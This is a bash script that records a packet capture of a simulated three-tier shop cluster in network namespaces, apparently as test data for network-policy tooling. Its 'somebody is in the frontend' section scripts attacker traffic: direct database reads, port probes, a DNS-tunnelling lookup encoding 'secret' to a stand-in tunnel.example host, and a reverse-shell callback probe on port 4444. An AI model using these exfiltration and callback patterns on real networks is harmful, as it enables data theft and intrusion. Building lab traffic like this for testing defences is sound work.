#!/usr/bin/env bash
# Records three-tier.pcap: real processes in network namespaces behind one bridge, and nothing that
# enforces a policy, so that what the policies would deny shows up too.
#
#   postgres  PostgreSQL                  api     a web server that asks it (api.py)
#   dns       dnsmasq                     frontend  curl, and then whoever broke into it
#   report    a pod of another namespace  outside   nginx and dnsmasq that are not in the cluster
#
# Needs root and the `record` packages of tools/packages.txt. Everything lives in namespaces named
# npf-* and is removed at the end.
set -euo pipefail
cd "$(dirname "$0")"
[[ $(id -u) -eq 0 ]] || { echo "record.sh: network namespaces need root" >&2; exit 4; }
# shellcheck source=tools/dev/packages.sh
source ../../tools/dev/packages.sh
install_packages record
PATH=$PATH:/usr/sbin:$(echo /usr/lib/postgresql/*/bin)

work=$(mktemp -d)
chmod 755 "$work"
pods=(frontend:10 api:20 postgres:30 dns:53 report:40)
pids=()

cleanup() {
  kill "${pids[@]}" 2> /dev/null || true
  wait 2> /dev/null || true
  local name
  for name in node outside frontend api postgres dns report; do
    ip netns delete npf-$name 2> /dev/null || true
    rm -rf /etc/netns/npf-$name
  done
  rm -rf "$work"
}
trap cleanup EXIT

in_pod() { ip netns exec "npf-$1" "${@:2}"; }
start() {
  ip netns exec "npf-$1" "${@:2}" > "$work/$1.log" 2>&1 &
  pids+=($!)
}
# A step of the story; what is tried may fail.
try() {
  echo "$1: ${*:2}"
  in_pod "$1" timeout 3 "${@:2}" > /dev/null 2>&1 || echo "  (status $?)"
  sleep 0.2
}

add_namespace() {  # name
  ip netns add "npf-$1"
  in_pod "$1" ip link set lo up
  in_pod "$1" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
}

# A veth pair between two namespaces, as it would be on a wire: whole checksums, no oversize frames.
wire() {  # namespace device peer-namespace peer-device
  ip link add "$2" netns "npf-$1" type veth peer name "$4" netns "npf-$3"
  local end
  for end in "$1 $2" "$3 $4"; do
    # shellcheck disable=SC2086
    set -- $end
    in_pod "$1" ethtool -K "$2" tx off rx off tso off gso off gro off > /dev/null
    in_pod "$1" ip link set "$2" up
  done
}

add_namespace node
add_namespace outside
in_pod node ip link add br0 type bridge
in_pod node ip link set br0 up
in_pod node ethtool -K br0 tx off > /dev/null 2>&1 || true
in_pod node ip address add 10.244.1.1/24 dev br0
in_pod node ip address add fd00:10:244:1::1/64 dev br0 nodad
in_pod node sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1

for pod in "${pods[@]}"; do
  name=${pod%:*}
  host=${pod#*:}
  add_namespace "$name"
  wire node "veth$host" "$name" eth0
  in_pod node ip link set "veth$host" master br0
  in_pod "$name" ip address add "10.244.1.$host/24" dev eth0
  in_pod "$name" ip address add "fd00:10:244:1::$host/64" dev eth0 nodad
  in_pod "$name" ip route add default via 10.244.1.1
  in_pod "$name" ip -6 route add default via fd00:10:244:1::1
  mkdir -p "/etc/netns/npf-$name"
  printf 'nameserver 10.244.1.53\noptions timeout:1 attempts:1\n' > "/etc/netns/npf-$name/resolv.conf"
done

wire node uplink outside eth0
in_pod node ip address add 203.0.113.1/24 dev uplink
in_pod node ip address add 2001:db8:80::1/64 dev uplink nodad
in_pod outside ip address add 203.0.113.80/24 dev eth0
in_pod outside ip address add 2001:db8:80::80/64 dev eth0 nodad
in_pod outside ip route add default via 203.0.113.1
in_pod outside ip -6 route add default via 2001:db8:80::1

# The processes.
zone=shop.svc.cluster.local
start dns dnsmasq --keep-in-foreground --no-hosts --no-resolv --user=root --pid-file= \
  --host-record="api.$zone,10.244.1.20,fd00:10:244:1::20" \
  --host-record="postgres.$zone,10.244.1.30,fd00:10:244:1::30"
start outside dnsmasq --keep-in-foreground --no-hosts --no-resolv --user=root --pid-file= \
  --address=/tunnel.example/203.0.113.80
mkdir -p "$work/site"
echo "thank you" > "$work/site/index.html"
cat > "$work/nginx.conf" << CONF
daemon off; pid $work/nginx.pid; error_log $work/nginx.log;
events {}
http { access_log off; server { listen 80; listen [::]:80; root $work/site; } }
CONF
start outside nginx -c "$work/nginx.conf"

install -d -o postgres "$work/data"
as_postgres=(setpriv --reuid=postgres --regid=postgres --clear-groups)
"${as_postgres[@]}" initdb -D "$work/data" -A trust > /dev/null
echo "host all all all trust" >> "$work/data/pg_hba.conf"
start postgres "${as_postgres[@]}" postgres -D "$work/data" -c listen_addresses='*' \
  -c unix_socket_directories="$work/data" -c fsync=off
for _ in $(seq 50); do
  in_pod postgres pg_isready -q -h "$work/data" && break
  sleep 0.2
done
in_pod postgres psql -q -h "$work/data" -U postgres -c "create table goods (name text, price int)" \
  -c "insert into goods values ('lamp', 40), ('chair', 90), ('table', 250)"
start api /usr/bin/python3 api.py "postgres.$zone"
sleep 1

start node tcpdump -i br0 -U -n -s 0 -w "$work/out.pcap"
sleep 1

echo "-- a day at the shop"
try node curl -s http://10.244.1.20:8080/healthz                      # the node's own probe
try frontend curl -s "http://api.$zone:8080/goods"                    # DNS, then api, then postgres
try frontend curl -4 -s "http://api.$zone:8080/goods"
try frontend curl -6 -s "http://api.$zone:8080/goods"
try frontend dig +short +tries=1 AAAA "api.$zone" @10.244.1.53
try report dig +short +tries=1 "api.$zone" @10.244.1.53

echo "-- somebody is in the frontend"
try frontend psql -h 10.244.1.30 -U postgres -Atc "select * from goods"
try frontend psql -h fd00:10:244:1::30 -U postgres -Atc "select * from goods"
try frontend curl -s http://10.244.1.20:9090/metrics
try frontend curl -s "http://[fd00:10:244:1::20]:9090/metrics"
try frontend nc -z -w 1 10.244.1.20 22
try frontend nc -z -w 1 10.244.1.20 8081
try frontend curl -s http://203.0.113.80/
try frontend curl -s "http://[2001:db8:80::80]/"
try frontend dig +short +tries=1 c2VjcmV0.tunnel.example @203.0.113.80
try frontend dig +short +tries=1 +tcp "api.$zone" @10.244.1.53
try frontend ping -c 1 -W 1 10.244.1.20
try frontend ping -c 1 -W 1 fd00:10:244:1::30
try postgres nc -z -w 1 10.244.1.10 4444                              # a shell that calls back
try report curl -s http://10.244.1.20:8080/goods                      # another namespace looks in

sleep 1
kill "${pids[-1]}"
wait "${pids[-1]}" 2> /dev/null || true
cp "$work/out.pcap" three-tier.pcap
ls -l three-tier.pcap
